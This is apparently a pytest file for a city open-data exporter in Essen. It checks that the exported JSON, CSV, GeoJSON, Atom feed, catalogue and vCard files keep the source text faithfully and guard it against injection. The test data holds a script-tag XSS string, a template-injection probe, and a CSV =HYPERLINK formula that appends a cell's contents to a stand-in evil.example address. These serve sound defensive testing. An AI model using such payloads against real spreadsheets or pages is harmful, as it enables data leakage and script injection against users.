"""Open data, feed, vCards and the /daten/ page, without MkDocs: every file parses and
matches the data one to one, text is the data's own (never HTML-escaped)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urljoin

import pytest
import shapely

from plugins.essen.exports import Publication, export_files
from plugins.essen.exports.catalogue import (
    BEZIRK_PROPERTIES,
    DATA_FILES,
    INITIATIVE_COLUMNS,
    PARTNER_COLUMNS,
)
from plugins.essen.exports.contentline import content_lines, escape_text, fold_line
from plugins.essen.exports.csvfile import csv_cell, original_text, spreadsheet_text
from plugins.essen.exports.vcard import VCARD_GROUP_NOUNS, VCARD_ORG_NOUNS, vcard, vcard_kind
from plugins.essen.images import ImageStore
from plugins.essen.loading import load_site
from plugins.essen.model import Contact, Initiative, Partner, Site
from plugins.essen.pages.data import data_page, file_size
from plugins.essen.pages.render import Renderer
from plugins.essen.pages.urls import UrlScheme, tel_href
from plugins.essen.places.gazetteer import Bezirk, gazetteer

from ..conftest import REPO, SITE_ROOT, Node, make_project, parse_html, small_data, write_data

TEMPLATES = REPO / "overrides" / "essen"
SITE_URL = "https://example.test/essen/"
TODAY = dt.date(2026, 6, 1)
ZERO = ("Datenlizenz Deutschland – Zero – Version 2.0", "https://www.govdata.de/dl-de/zero-2-0")
BY = (
    "Datenlizenz Deutschland – Namensnennung – Version 2.0",
    "https://www.govdata.de/dl-de/by-2-0",
)
PUBLISHER = "Stadt Essen"
CONTRIBUTOR = "http://dcat-ap.de/def/contributors/openNRW"
ATOM = "{http://www.w3.org/2005/Atom}"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_TITLE = '<script>alert("x")</script> & "Zitat" Ärger'
FORMULA_SUMMARY = '=HYPERLINK("https://evil.example/?q="&A1;"Klick")'
HOSTILE_DESCRIPTION = (
    'Erste Zeile; mit Semikolon, Komma und "Anführung".\n\n'
    "- Liste mit <b>fett</b> und {{ 7*7 }}\n"
    "- Grüße aus Überruhr\nnoch eine Zeile"
)
NASTY_CONTACT_NAME = 'Müller, Hans; "Dr." \\ Team'
LONG_PARTNER_NAME = (
    "Gemeinnützige Gesellschaft für digitale Daseinsvorsorge, Bürgerbeteiligung; "
    "Quartiersentwicklung und Ökologie im Ruhrgebiet mbH 🚋 – Zweigstelle Süd"
)


def nasty_data() -> dict:
    """The conftest's small data set plus initiatives and contacts with hostile text."""
    data = small_data()
    # A field name with markup and an ampersand ends up in the feed's attributes.
    data["fields"][2]["name"] = "Smart Energy, Wärme & <Strom>"
    data["partners"]["gemeinnuetzig"] = {
        "name": LONG_PARTNER_NAME,
        "type": "civil-society",
        "description": "Zeile eins\nZeile zwei mit <i>HTML</i>",
    }
    data["contacts"].append(
        {
            "id": "mueller",
            "name": NASTY_CONTACT_NAME,
            # A line break in a one-line text arrives as a space (the loader's rule).
            "role": "Leitung\nSmart City, Bereich \\Süd\\",
            "organization": "gemeinnuetzig",
            "phone": "+49 (0)201 123-45",
            "email": "team,sued@example.org",
        }
    )
    data["contacts"].append(
        {
            "id": "national",
            "name": "Bürgerbüro",
            "role": "Auskunft",
            "organization": "stadt-essen",
            "phone": "0201 8888109",
        }
    )
    data["initiatives"]["boese"] = {
        "title": HOSTILE_TITLE,
        "fields": ["smart-living", "smart-mobility"],
        "status": "pilot",
        "summary": FORMULA_SUMMARY,
        "description": HOSTILE_DESCRIPTION,
        "lead": "gemeinnuetzig",
        "partners": ["evv", "stadt-essen"],
        "contacts": ["mueller"],
        # Districts are the vocabulary's names (rules.District): a Bezirk's slashes in a cell.
        "districts": ["Rüttenscheid", "Altendorf", "Steele/Kray"],
        "tags": ["@home", "+plus", "'zitiert", "a, b"],
        "links": [{"title": 'Seite "A"; B, C', "url": "https://example.org/?a=1&b=2"}],
        "location": {"lat": 51.4556, "lon": 7.0116},
        "start": "2024-03",
        "updated": dt.date(2025, 2, 1),
    }
    # Same `updated` as "boese": the tie is broken by the site's (alphabetical) order.
    data["initiatives"]["gleichstand"] = {
        "title": "Gleichstand",
        "fields": ["smart-energy"],
        "status": "idea",
        "summary": "-5 Grad im Winter",
        "location": {"lat": 51.5, "lon": 7.0},
        "updated": dt.date(2025, 2, 1),
    }
    data["initiatives"]["nur-start"] = {
        "title": "Nur ein Start",
        "fields": ["smart-energy"],
        "status": "planning",
        "summary": "Beginnt an einem Tag.",
        "start": dt.date(2025, 1, 20),
    }
    data["initiatives"]["zukunft"] = {
        "title": "Zukunft",
        "fields": ["smart-mobility"],
        "status": "idea",
        "summary": "Beginnt erst später.",
        "start": "2030-01",
    }
    data["initiatives"]["steuerzeichen"] = {
        "title": "Steuerzeichen",
        "fields": ["smart-living"],
        "status": "idea",
        "summary": "Zeichen, die XML nicht kennt, lässt schon das Laden nicht durch.",
    }
    return data


def publication(
    licence: tuple[str, str] = ZERO,
    urls: UrlScheme | None = None,
    site_url: str = SITE_URL,
    contributor_id: str = CONTRIBUTOR,
    image_paths: tuple[tuple[str, str], ...] = (),
) -> Publication:
    return Publication(
        base_url=site_url,
        licence_name=licence[0],
        licence_url=licence[1],
        publisher_name=PUBLISHER,
        contributor_id=contributor_id,
        today=TODAY,
        urls=urls or UrlScheme(),
        image_paths=image_paths,
    )


def export(
    site: Site,
    licence: tuple[str, str] = ZERO,
    urls: UrlScheme | None = None,
    image_paths: tuple[tuple[str, str], ...] = (),
) -> dict[str, bytes]:
    files = export_files(site, publication(licence, urls, image_paths=image_paths))
    paths = [path for path, _ in files]
    assert len(paths) == len(set(paths)), "a path is exported twice"
    return dict(files)


@pytest.fixture(scope="module")
def nasty_site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    project = make_project(
        tmp_path_factory.mktemp("nasty"), lambda data_dir: write_data(data_dir, nasty_data())
    )
    return load_site(project / "data", project)


@pytest.fixture(scope="module")
def nasty_files(nasty_site: Site) -> dict[str, bytes]:
    return export(nasty_site)


@pytest.fixture(scope="module")
def sample_site() -> Site:
    return load_site(REPO / "data", REPO)


def page_url(*parts: str) -> str:
    return SITE_URL + "/".join(parts) + "/"


# --------------------------------------------------------------------------- expectations
# Built from the model attribute by attribute, independently of the exporter's code.


def expected_initiative(
    initiative: Initiative, image_urls: dict[str, str] | None = None
) -> dict[str, object]:
    image = initiative.image
    return {
        "id": initiative.id,
        "url": page_url("initiativen", initiative.id),
        "title": initiative.title,
        "summary": initiative.summary,
        "description": initiative.description,
        "status": initiative.status,
        "status_label": initiative.status_label,
        "fields": [f.id for f in initiative.fields],
        "field_names": [f.name for f in initiative.fields],
        "lead": initiative.lead.id if initiative.lead else None,
        "partners": [p.id for p in initiative.partners],
        "contacts": [c.id for c in initiative.contacts],
        "districts": list(initiative.districts),
        "start": str(initiative.start) if initiative.start else None,
        "end": str(initiative.end) if initiative.end else None,
        "tags": list(initiative.tags),
        "links": [{"title": link.title, "url": link.url} for link in initiative.links],
        "lat": initiative.location.lat if initiative.location else None,
        "lon": initiative.location.lon if initiative.location else None,
        "featured": initiative.featured,
        "updated": initiative.updated.isoformat() if initiative.updated else None,
        "image_url": (image_urls or {}).get(image.file) if image else None,
        "image_alt": (image.alt or None) if image else None,
        "image_credit": image.credit if image else None,
        "bezirke": [b.name for b in expected_bezirke(initiative)],
        "bezirk_numbers": [b.number for b in expected_bezirke(initiative)],
    }


def expected_bezirke(initiative: Initiative) -> tuple[Bezirk, ...]:
    """THE definition of an initiative's Bezirke, which pages and exports share."""
    location = initiative.location
    point = (location.lat, location.lon) if location else None
    return gazetteer().bezirke_of(initiative.districts, point)


def expected_csv_cell(value: object) -> str:
    """What a CSV cell must read as after removing the spreadsheet guard."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, list):
        return "; ".join(
            f"{item['title']} <{item['url']}>" if isinstance(item, dict) else str(item)
            for item in value
        )
    return str(value)


def feed_day(initiative: Initiative) -> dt.date | None:
    if initiative.updated:
        return initiative.updated
    return initiative.start.first_day if initiative.start else None


def expected_feed_ids(site: Site) -> list[str]:
    order = list(site.initiatives)
    dated = [i for i in order if feed_day(i)]
    undated = [i for i in order if not feed_day(i)]
    dated.sort(key=lambda i: (-feed_day(i).toordinal(), order.index(i)))  # type: ignore[union-attr]
    return [page_url("initiativen", i.id) for i in dated + undated]


# --------------------------------------------------------------------------- checks


def check_initiatives_json(
    site: Site, files: dict[str, bytes], image_urls: dict[str, str] | None = None
) -> list[dict]:
    raw = files["daten/initiativen.json"]
    records = json.loads(raw.decode("utf-8"))
    assert [r["id"] for r in records] == [i.id for i in site.initiatives]
    for record, initiative in zip(records, site.initiatives, strict=True):
        assert record == expected_initiative(initiative, image_urls)
        assert list(record) == [column.name for column in INITIATIVE_COLUMNS]
    return records


def check_initiatives_csv(
    site: Site, files: dict[str, bytes], image_urls: dict[str, str] | None = None
) -> list[dict[str, str]]:
    raw = files["daten/initiativen.csv"]
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    text = raw.decode("utf-8-sig")
    header_line = text.split("\r\n", 1)[0]
    assert header_line == ",".join(column.name for column in INITIATIVE_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["id"] for row in rows] == [i.id for i in site.initiatives]
    for row, initiative in zip(rows, site.initiatives, strict=True):
        expected = expected_initiative(initiative, image_urls)
        for column in INITIATIVE_COLUMNS:
            cell, value = row[column.name], expected[column.name]
            if isinstance(value, float):
                # Numbers stay numbers: no guard in front of a minus sign.
                assert cell == repr(value) and float(cell) == value
                continue
            assert original_text(cell) == expected_csv_cell(value), column.name
            assert not cell.startswith(TRIGGERS), f"{column.name}: {cell!r} runs as a formula"
    return rows


def check_geojson(
    site: Site, files: dict[str, bytes], image_urls: dict[str, str] | None = None
) -> None:
    collection = json.loads(files["daten/initiativen.geojson"])
    assert collection["type"] == "FeatureCollection"
    located = [i for i in site.initiatives if i.location is not None]
    assert [f["id"] for f in collection["features"]] == [i.id for i in located]
    for feature, initiative in zip(collection["features"], located, strict=True):
        assert initiative.location is not None
        assert feature["type"] == "Feature"
        assert feature["geometry"] == {
            "type": "Point",
            "coordinates": [initiative.location.lon, initiative.location.lat],
        }
        full = expected_initiative(initiative, image_urls)
        assert feature["properties"] == {
            key: full[key]
            for key in (
                "id",
                "title",
                "summary",
                "status",
                "url",
                "fields",
                "image_url",
                "image_credit",
                "bezirke",
            )
        }


def check_bezirke_geojson(site: Site, files: dict[str, bytes]) -> None:
    """The Bezirke as read back with json and shapely: 9 valid polygons in RFC 7946's
    orientation, covering the city; each with its page and the count bezirke_of gives."""
    collection = json.loads(files["daten/stadtbezirke.geojson"])
    assert collection["type"] == "FeatureCollection"
    assert collection["attribution"] == "Grenzen: Stadt Essen, dl-de/by-2-0"
    assert collection["license"] == "https://www.govdata.de/dl-de/by-2-0"
    places = gazetteer()
    features = collection["features"]
    assert [f["id"] for f in features] == list(range(1, 10))
    polygons = []
    for feature, bezirk in zip(features, places.bezirke, strict=True):
        assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Polygon"
        polygon = shapely.geometry.shape(feature["geometry"])
        assert polygon.is_valid and polygon.exterior.is_ccw
        assert all(not ring.is_ccw for ring in polygon.interiors)
        polygons.append(polygon)
        count = sum(bezirk in expected_bezirke(i) for i in site.initiatives)
        assert feature["properties"] == {
            "number": bezirk.number,
            "roman": bezirk.roman,
            "name": bezirk.name,
            "url": page_url("stadtteile", bezirk.slug),
            "stadtteile": [s.name for s in bezirk.stadtteile],
            "count": count,
        }
    # Together the polygons are the city (the simplified copy shares its borders).
    city = shapely.geometry.Polygon(places.boundary)
    union = shapely.union_all(polygons)
    assert abs(union.area - city.area) / city.area < 0.001
    assert sum(p.area for p in polygons) == pytest.approx(union.area, rel=0.001)
    # A located initiative without districts is counted where its point lies in the file.
    for initiative in site.initiatives:
        if initiative.location is not None and not initiative.districts:
            point = shapely.geometry.Point(initiative.location.lon, initiative.location.lat)
            inside = [f["id"] for f, p in zip(features, polygons, strict=True) if p.covers(point)]
            assert inside == [b.number for b in expected_bezirke(initiative)], initiative.id


def check_partners_json(site: Site, files: dict[str, bytes]) -> None:
    records = json.loads(files["daten/partner.json"])
    assert [r["id"] for r in records] == [p.id for p in site.partners]
    for record, partner in zip(records, site.partners, strict=True):
        assert list(record) == [column.name for column in PARTNER_COLUMNS]
        assert record == {
            "id": partner.id,
            "name": partner.name,
            "short_name": partner.short_name,
            "type": partner.type,
            "type_label": partner.type_label,
            "website": partner.website,
            "description": partner.description,
            "url": page_url("partner", partner.id),
            "initiatives": [
                i.id
                for i in site.initiatives
                if partner in i.partners or (i.lead is not None and i.lead.id == partner.id)
            ],
        }


def feed_entries(files: dict[str, bytes]) -> tuple[ET.Element, list[ET.Element]]:
    root = ET.fromstring(files["feed.xml"])
    assert root.tag == f"{ATOM}feed"
    return root, root.findall(f"{ATOM}entry")


def atom_day(element: ET.Element | None) -> dt.date:
    assert element is not None and element.text is not None
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", element.text)
    return dt.date.fromisoformat(element.text[:10])


def xml_safe(text: str) -> str:
    """Control characters XML cannot carry are the only change the feed makes to text."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", text)


def check_feed(site: Site, files: dict[str, bytes]) -> None:
    root, entries = feed_entries(files)
    assert [e.findtext(f"{ATOM}id") for e in entries] == expected_feed_ids(site)
    by_url = {page_url("initiativen", i.id): i for i in site.initiatives}
    for entry in entries:
        initiative = by_url[entry.findtext(f"{ATOM}id") or ""]
        title = entry.find(f"{ATOM}title")
        summary = entry.find(f"{ATOM}summary")
        assert title is not None and title.get("type") == "text"
        assert summary is not None and summary.get("type") == "text"
        assert title.text == xml_safe(initiative.title)
        assert summary.text == xml_safe(initiative.summary)
        link = entry.find(f"{ATOM}link[@rel='alternate']")
        assert link is not None and link.get("href") == page_url("initiativen", initiative.id)
        assert [(c.get("term"), c.get("label")) for c in entry.findall(f"{ATOM}category")] == [
            (f.id, xml_safe(f.name)) for f in initiative.fields
        ]
        day = feed_day(initiative)
        shown = atom_day(entry.find(f"{ATOM}updated"))
        assert shown <= TODAY
        if day is not None:
            assert shown == min(day, TODAY)
    dated = [d for d in map(feed_day, site.initiatives) if d]
    assert atom_day(root.find(f"{ATOM}updated")) == min(max(dated), TODAY)
    self_link = root.find(f"{ATOM}link[@rel='self']")
    assert self_link is not None and self_link.get("href") == SITE_URL + "feed.xml"
    assert root.findtext(f"{ATOM}author/{ATOM}name") == PUBLISHER
    assert root.findtext(f"{ATOM}id") == SITE_URL + "feed.xml"


def check_catalog(site: Site, files: dict[str, bytes], licence: tuple[str, str] = ZERO) -> dict:
    catalog = json.loads(files["daten/katalog.jsonld"])
    context = catalog["@context"]
    assert context["dcat"] == "http://www.w3.org/ns/dcat#"
    assert context["dct"] == "http://purl.org/dc/terms/"
    assert context["foaf"] == "http://xmlns.com/foaf/0.1/"
    assert context["dcatde"] == "http://dcat-ap.de/def/dcatde/"
    assert catalog["@type"] == "dcat:Catalog"
    assert catalog["dct:publisher"] == {"@type": "foaf:Organization", "foaf:name": PUBLISHER}
    [dataset] = catalog["dcat:dataset"]
    assert dataset["@type"] == "dcat:Dataset"
    assert dataset["dct:title"]["@language"] == "de" and dataset["dct:title"]["@value"]
    assert dataset["dct:description"]["@language"] == "de"
    assert dataset["dcat:keyword"] and dataset["dcat:theme"]
    days = [i.updated for i in site.initiatives if i.updated]
    # Published with the oldest check, changed with the newest; the build day without any.
    issued, modified = (min(days), max(days)) if days else (TODAY, TODAY)
    for described in (catalog, dataset, *dataset["dcat:distribution"]):
        assert described["dct:issued"] == {"@value": issued.isoformat(), "@type": "xsd:date"}
        assert described["dct:modified"] == {"@value": modified.isoformat(), "@type": "xsd:date"}
    assert dataset["dcatde:contributorID"]["@id"].startswith("http://dcat-ap.de/def/contributors/")
    distributions = dataset["dcat:distribution"]
    assert {d["@type"] for d in distributions} == {"dcat:Distribution"}
    # One node each: two files of one name (feed.xml, aktuelles/feed.xml) get distinct ids.
    assert len({d["@id"] for d in distributions}) == len(distributions) == len(DATA_FILES)
    assert SITE_URL + "daten/katalog.jsonld#initiativen.json" in {d["@id"] for d in distributions}
    published = {
        SITE_URL + path
        for path in files
        if (path.startswith("daten/") and path != "daten/katalog.jsonld")
        or path in ("feed.xml", "aktuelles/feed.xml")
    }
    assert {d["dcat:downloadURL"]["@id"] for d in distributions} == published
    media_types = {
        ".json": "application/json",
        ".csv": "text/csv",
        ".geojson": "application/geo+json",
        ".xml": "application/atom+xml",
    }
    for distribution in distributions:
        url = distribution["dcat:downloadURL"]["@id"]
        assert distribution["dcat:accessURL"]["@id"] == url
        suffix = Path(url).suffix
        assert distribution["dcat:mediaType"]["@id"].endswith("/" + media_types[suffix])
        assert distribution["dct:format"]["@id"].startswith(
            "http://publications.europa.eu/resource/authority/file-type/"
        )
        assert int(distribution["dcat:byteSize"]["@value"]) == len(files[url[len(SITE_URL) :]])
        assert distribution["dcat:byteSize"]["@type"] == "xsd:decimal"
        if url.endswith("/stadtbezirke.geojson"):
            # The city's geometry, under the city's licence and with its attribution.
            assert distribution["dct:license"] == {
                "@id": "http://dcat-ap.de/def/licenses/dl-by-de/2.0"
            }
            assert distribution["dcatde:licenseAttributionByText"] == {
                "@value": "Stadt Essen",
                "@language": "de",
            }
        else:
            assert distribution["dct:license"] == dataset["dct:license"]
            assert "dcatde:licenseAttributionByText" not in distribution
    return dataset


# Contacts of the test data sets that are no person, by reading their names (RFC 6350 KIND);
# in the sample data these are the project teams, whose ids start with "projektteam-".
NOT_PERSONS = {"projektteam": "group", "national": "org"}


def expected_kind(contact_id: str) -> str:
    if contact_id.startswith("projektteam-"):
        return "group"
    return NOT_PERSONS.get(contact_id, "individual")


def check_vcards(site: Site, files: dict[str, bytes]) -> None:
    assert sorted(p for p in files if p.startswith("kontakt/")) == sorted(
        f"kontakt/{c.id}.vcf" for c in site.contacts
    )
    for contact in site.contacts:
        card = parse_vcard(files[f"kontakt/{contact.id}.vcf"])
        assert card["BEGIN"] == ["VCARD"] and card["END"] == ["VCARD"]
        assert card["VERSION"] == ["4.0"]
        kind = expected_kind(contact.id)
        assert card["KIND"] == [kind]
        assert card["FN"] == [contact.name.replace("\r\n", "\n")]
        # A team or office is a unit of its organisation: organisation, then unit.
        units = [] if kind == "individual" else [contact.name.replace("\r\n", "\n")]
        assert card["ORG"] == [COMPONENTS.join([contact.organization.name, *units])]
        assert card["TITLE"] == [contact.role.replace("\r\n", "\n")]
        assert card.get("EMAIL;TYPE=work") == ([contact.email] if contact.email else None)
        if contact.phone:
            [tel] = card["TEL;VALUE=uri;TYPE=work,voice"]
            digits = re.sub(r"\D", "", contact.phone.replace("(0)", ""))
            assert re.fullmatch(r"tel:\+[0-9]+", tel)
            assert tel.endswith(digits.lstrip("0"))
        else:
            assert "TEL;VALUE=uri;TYPE=work,voice" not in card


def parse_vcard(raw: bytes) -> dict[str, list[str]]:
    """Strict reader: CRLF only, ≤ 75 octets per line, whole UTF-8 characters per line."""
    assert raw.endswith(b"\r\n")
    assert b"\n" not in raw.replace(b"\r\n", b""), "bare LF"
    assert b"\r" not in raw.replace(b"\r\n", b""), "bare CR"
    physical = raw[:-2].split(b"\r\n")
    logical: list[str] = []
    for line in physical:
        assert len(line) <= 75, f"{len(line)} octets: {line!r}"
        text = line.decode("utf-8")  # raises if a character was split
        if text.startswith(" "):
            assert logical, "continuation without a line"
            logical[-1] += text[1:]
        else:
            logical.append(text)
    properties: dict[str, list[str]] = {}
    for line in logical:
        name, value = line.split(":", 1)
        if name in STRUCTURED_PROPERTIES:
            # Components joined by a separator no text contains, so one str per property.
            value = COMPONENTS.join(unescape_vcard(part) for part in components(value))
        else:
            value = unescape_vcard(value)
        properties.setdefault(name, []).append(value)
    return properties


# Properties whose value is a list of `;`-separated components (RFC 6350 6.6.4: ORG is the
# organisation's name, then its units).
STRUCTURED_PROPERTIES = {"ORG"}
COMPONENTS = "\x00"


def components(value: str) -> list[str]:
    """Split at every `;` that is not escaped; escapes stay for `unescape_vcard`."""
    parts: list[str] = []
    current, escaped = "", False
    for char in value:
        if escaped:
            current, escaped = current + char, False
        elif char == "\\":
            current, escaped = current + char, True
        elif char == ";":
            parts, current = [*parts, current], ""
        else:
            current += char
    return [*parts, current]


def unescape_vcard(value: str) -> str:
    # A separator must be escaped: an unescaped , or ; would split the value.
    assert not re.search(r"(?<!\\)(\\\\)*[,;]", value.replace("tel:", "")), value
    return re.sub(r"\\(.)", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)


def check_all(
    site: Site, files: dict[str, bytes], image_urls: dict[str, str] | None = None
) -> None:
    check_initiatives_json(site, files, image_urls)
    check_initiatives_csv(site, files, image_urls)
    check_geojson(site, files, image_urls)
    check_bezirke_geojson(site, files)
    check_partners_json(site, files)
    check_feed(site, files)
    check_catalog(site, files)
    check_vcards(site, files)


# --------------------------------------------------------------------------- tests


def test_nasty_data_exports_match_the_data_one_to_one(
    nasty_site: Site, nasty_files: dict[str, bytes]
) -> None:
    check_all(nasty_site, nasty_files)


def test_sample_data_exports_cleanly(sample_site: Site) -> None:
    # The test builds' shared cache (tests/conftest.py): the sample images are usually there.
    catalogue = ImageStore.for_project(REPO).prepare(sample_site, REPO / "data")
    files = export(sample_site, image_paths=tuple(catalogue.open_data_paths().items()))
    # Each initiative image: the widest published JPEG, found among the files of the catalogue
    # by its name (the sample images are 1600 px wide, so 1280 is the widest made).
    image_urls = {}
    for initiative in sample_site.initiatives:
        if initiative.image is None:
            continue
        stem = initiative.image.file.rsplit(".", 1)[0]
        [published] = [
            path
            for path in catalogue.files
            if re.fullmatch(rf"assets/images/{stem}-1280\.[0-9a-f]{{10}}\.jpg", path)
        ]
        image_urls[initiative.image.file] = SITE_URL + published
    assert len(image_urls) >= 5
    check_all(sample_site, files, image_urls)
    assert len(json.loads(files["daten/initiativen.json"])) == len(sample_site.initiatives)


def test_exports_carry_raw_text_not_html(nasty_site: Site, nasty_files: dict[str, bytes]) -> None:
    [record] = [r for r in json.loads(nasty_files["daten/initiativen.json"]) if r["id"] == "boese"]
    assert record["title"] == HOSTILE_TITLE
    assert record["description"] == HOSTILE_DESCRIPTION == nasty_site_description(nasty_site)
    assert record["summary"] == FORMULA_SUMMARY
    for path, content in nasty_files.items():
        # XML escapes by its own rules (the feed's parsed text is checked in check_feed).
        if path != "feed.xml":
            assert b"&lt;" not in content and b"&quot;" not in content, path
    # UTF-8 as such, not \u escapes.
    assert "Ärger".encode() in nasty_files["daten/initiativen.json"]
    assert b"\\u00c4" not in nasty_files["daten/initiativen.json"]


def nasty_site_description(site: Site) -> str | None:
    return next(i.description for i in site.initiatives if i.id == "boese")


def test_csv_guards_formulas_and_keeps_numbers(nasty_files: dict[str, bytes]) -> None:
    rows = {
        row["id"]: row
        for row in csv.DictReader(
            io.StringIO(nasty_files["daten/initiativen.csv"].decode("utf-8-sig"), newline="")
        )
    }
    evil = rows["boese"]
    assert evil["summary"] == "'" + FORMULA_SUMMARY
    assert evil["districts"] == "Rüttenscheid; Altendorf; Steele/Kray"
    assert evil["bezirke"] == (
        "Rüttenscheid/Bergerhausen/Rellinghausen/Stadtwald; Essen-West; Steele/Kray"
    )
    assert evil["bezirk_numbers"] == "2; 3; 7"
    assert evil["tags"] == "'@home; +plus; 'zitiert; a, b"
    assert evil["lon"] == "7.0116"
    # Essen lies east of Greenwich, but a negative number is still a number, not a formula.
    assert csv_cell(-0.5) == -0.5
    assert rows["gleichstand"]["summary"] == "'-5 Grad im Winter"
    # Newlines inside a description survive the round trip through the csv module.
    assert "\n- Grüße aus Überruhr" in evil["description"]
    assert rows["zentrum"]["lat"] == "" and rows["zentrum"]["lead"] == ""


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+49", "-5 Grad", "@SUM(A1)", "\tTab", "\rCR", "'", "''=x", "'s Lädchen", "Normal",
     "", "a=b", " =1"],
)  # fmt: skip
def test_spreadsheet_guard_is_reversible(text: str) -> None:
    guarded = spreadsheet_text(text)
    assert original_text(guarded) == text
    assert not guarded.startswith(TRIGGERS)
    assert guarded == text or guarded == "'" + text


def test_feed_order_and_dates(nasty_site: Site, nasty_files: dict[str, bytes]) -> None:
    _, entries = feed_entries(nasty_files)
    ids = [e.findtext(f"{ATOM}id") for e in entries]
    # "zukunft" starts in 2030: first by its start, but it claims no future change.
    assert ids[0] == page_url("initiativen", "zukunft")
    assert atom_day(entries[0].find(f"{ATOM}updated")) == TODAY
    # Same `updated`: alphabetical by title, as on the site ("<script>…" sorts before "Gleichstand").
    assert ids.index(page_url("initiativen", "boese")) + 1 == ids.index(
        page_url("initiativen", "gleichstand")
    )
    # `updated` wins over `start`: "boese" started in 2024 but was checked in 2025.
    assert ids.index(page_url("initiativen", "boese")) < ids.index(
        page_url("initiativen", "nur-start")
    )
    undated = {i.id for i in nasty_site.initiatives if feed_day(i) is None}
    assert undated, "the data set needs undated initiatives"
    tail = ids[-len(undated) :]
    assert {url.rstrip("/").rsplit("/", 1)[-1] for url in tail if url} == undated
    oldest = min(d for d in map(feed_day, nasty_site.initiatives) if d)
    for entry in entries[-len(undated) :]:
        assert atom_day(entry.find(f"{ATOM}updated")) == oldest


def test_feed_is_well_formed_with_control_characters(nasty_site: Site) -> None:
    # The loader refuses control characters (tests/unit/test_rules.py); the feed stays well-formed
    # even for a model that carries them, as a second line of defence.
    initiatives = tuple(
        dataclasses.replace(i, title="Steuer\x0bzeichen", summary="Zeichen: \x01.")
        if i.id == "steuerzeichen"
        else i
        for i in nasty_site.initiatives
    )
    root, entries = feed_entries(export(dataclasses.replace(nasty_site, initiatives=initiatives)))
    titles = [e.findtext(f"{ATOM}title") for e in entries]
    assert "Steuer\ufffdzeichen" in titles
    assert HOSTILE_TITLE in titles
    assert root.get("{http://www.w3.org/XML/1998/namespace}lang") == "de"


def test_exports_are_deterministic(nasty_site: Site, nasty_files: dict[str, bytes]) -> None:
    assert export(nasty_site) == nasty_files


def test_urls_follow_the_url_style(nasty_site: Site) -> None:
    files = export(nasty_site, urls=UrlScheme(directory_urls=False))
    records = json.loads(files["daten/initiativen.json"])
    assert records[0]["url"] == f"{SITE_URL}initiativen/{records[0]['id']}/index.html"


def test_missing_site_url_is_refused(nasty_site: Site) -> None:
    with pytest.raises(ValueError, match="site_url"):
        export_files(nasty_site, publication(site_url=""))


def test_site_url_without_final_slash_gives_the_same_files(
    nasty_site: Site, nasty_files: dict[str, bytes]
) -> None:
    files = export_files(nasty_site, publication(site_url=SITE_URL.rstrip("/")))
    assert dict(files) == nasty_files


def test_contributor_id_is_the_configured_one(
    nasty_site: Site, nasty_files: dict[str, bytes]
) -> None:
    other = "http://dcat-ap.de/def/contributors/stadtEssen"
    files = dict(export_files(nasty_site, publication(contributor_id=other)))
    [dataset] = json.loads(files["daten/katalog.jsonld"])["dcat:dataset"]
    assert dataset["dcatde:contributorID"] == {"@id": other}
    renderer = Renderer(TEMPLATES)
    page = data_page(nasty_site, renderer, publication(contributor_id=other), list(files.items()))
    codes = [code.text() for code in parse_html(page.body).find_all("code")]
    assert other in codes and CONTRIBUTOR not in codes


def test_content_lines_are_folded_crlf_lines() -> None:
    """The shared writer of vCard and iCalendar lines (RFC 6350 3.2, RFC 5545 3.1)."""
    lines = ["BEGIN:VCALENDAR", "DESCRIPTION:" + escape_text("Grüße; aus, Essen\n ") * 9]
    raw = content_lines([*lines, "END:VCALENDAR"])
    assert raw.endswith(b"\r\n")
    physical = raw.split(b"\r\n")[:-1]
    assert all(b"\r" not in line and b"\n" not in line for line in physical)
    assert all(len(line) <= 75 for line in physical)
    assert len(physical) > 3, "the long line must be folded"
    # RFC 5545 3.1: unfolding removes each CRLF followed by one space.
    unfolded = raw.decode("utf-8").replace("\r\n ", "").split("\r\n")[:-1]
    assert unfolded == [*lines, "END:VCALENDAR"]


def test_catalog_licence_and_attribution(nasty_site: Site) -> None:
    zero = check_catalog(nasty_site, export(nasty_site, ZERO), ZERO)
    assert zero["dct:license"] == {"@id": "http://dcat-ap.de/def/licenses/dl-zero-de/2.0"}
    assert "dcatde:licenseAttributionByText" not in zero
    by = check_catalog(nasty_site, export(nasty_site, BY), BY)
    assert by["dct:license"] == {"@id": "http://dcat-ap.de/def/licenses/dl-by-de/2.0"}
    assert PUBLISHER in by["dcatde:licenseAttributionByText"]["@value"]
    other = ("Eigene Lizenz", "https://example.org/lizenz")
    custom = check_catalog(nasty_site, export(nasty_site, other), other)
    assert custom["dct:license"] == {"@id": other[1]}


def test_catalog_dates_without_any_check_are_the_build_day(tmp_path: Path) -> None:
    data = small_data()
    for initiative in data["initiatives"].values():
        initiative.pop("updated", None)
    project = make_project(tmp_path, lambda data_dir: write_data(data_dir, data))
    site = load_site(project / "data", project)
    assert all(i.updated is None for i in site.initiatives)
    check_catalog(site, export(site))


def test_vcard_escaping_and_folding(nasty_files: dict[str, bytes]) -> None:
    raw = nasty_files["kontakt/mueller.vcf"]
    card = parse_vcard(raw)
    assert card["FN"] == [NASTY_CONTACT_NAME]
    assert card["ORG"] == [LONG_PARTNER_NAME]
    assert card["TITLE"] == ["Leitung Smart City, Bereich \\Süd\\"]
    # Line breaks cannot come from one-line data any more; the escaping still handles them.
    assert escape_text("Zeile\nzwei; drei, \\") == "Zeile\\nzwei\\; drei\\, \\\\"
    assert card["EMAIL;TYPE=work"] == ["team,sued@example.org"]
    assert card["TEL;VALUE=uri;TYPE=work,voice"] == ["tel:+4920112345"]
    text = raw.decode("utf-8")
    assert 'FN:Müller\\, Hans\\; "Dr." \\\\ Team\r\n' in text
    assert "\r\n " in text, "the long ORG line must be folded"
